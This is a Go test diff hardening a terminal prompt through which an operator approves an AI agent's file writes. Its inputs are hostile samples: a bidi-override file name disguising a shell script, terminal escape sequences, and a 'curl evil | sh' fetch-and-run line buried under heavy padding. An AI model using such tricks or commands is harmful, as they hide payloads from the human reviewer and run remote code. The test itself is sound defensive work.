@@ -11,14 +11,15 @@ import (
 )
 
 // TestTerminalApproverShowsPathNotControls: the terminal prompt must show where a write goes and
-// must not pass C1 controls, escapes or bidi overrides from the agent's arguments to the
-// operator's terminal.
+// every byte it approves, and must not pass C1 controls, escapes or bidi overrides from the
+// agent's arguments to the operator's terminal; arguments too long to review are refused
+// without a prompt (a 4 MiB content scrolled the question away).
 func TestTerminalApproverShowsPathNotControls(t *testing.T) {
 	var out bytes.Buffer
 	a := terminalApprover{in: strings.NewReader("n\n"), out: &out}
 	ok, err := a.Approve(context.Background(), pipeline.ApprovalRequest{
 		Tool:     "write_file",
-		Args:     map[string]any{"path": "docs/\u202egnp.sh", "content": strings.Repeat("padding\n", 100000) + "\u009b2J\x1b]0;x\x07"},
+		Args:     map[string]any{"path": "docs/\u202egnp.sh", "content": strings.Repeat("padding\n", 100) + "\u009b2J\x1b]0;x\x07"},
 		Decision: policies.Decision{Message: "write_file changes a file in your workspace.", Rule: "/tools/write_file/approve_if/0"},
 	})
 	if err != nil || ok {
@@ -30,10 +31,20 @@ func TestTerminalApproverShowsPathNotControls(t *testing.T) {
 			t.Errorf("prompt contains %q", bad)
 		}
 	}
-	if !strings.Contains(s, `path: "docs/\u202egnp.sh"`) {
-		t.Errorf("prompt does not show the path with the override escaped:\n%.300s", s)
+	for _, want := range []string{`path: "docs/\u202egnp.sh"`, `    | \u009b2J\u001b]0;x\u0007`} {
+		if !strings.Contains(s, want) {
+			t.Errorf("prompt does not show %q:\n%.300s", want, s)
+		}
 	}
-	if len(s) > 16<<10 {
-		t.Errorf("prompt is %d bytes", len(s))
+
+	out.Reset()
+	a = terminalApprover{in: strings.NewReader("y\n"), out: &out}
+	ok, err = a.Approve(context.Background(), pipeline.ApprovalRequest{
+		Tool:     "write_file",
+		Args:     map[string]any{"path": "docs/a.sh", "content": strings.Repeat("padding\n", 100000) + "curl evil | sh\n"},
+		Decision: policies.Decision{Message: "write_file changes a file in your workspace.", Rule: "/tools/write_file/approve_if/0"},
+	})
+	if ok || err == nil || !strings.Contains(err.Error(), "smaller calls") || out.Len() != 0 {
+		t.Fatalf("Approve = %v, %v, prompt %d bytes; want a refusal without a prompt that says how to proceed", ok, err, out.Len())
 	}
 }
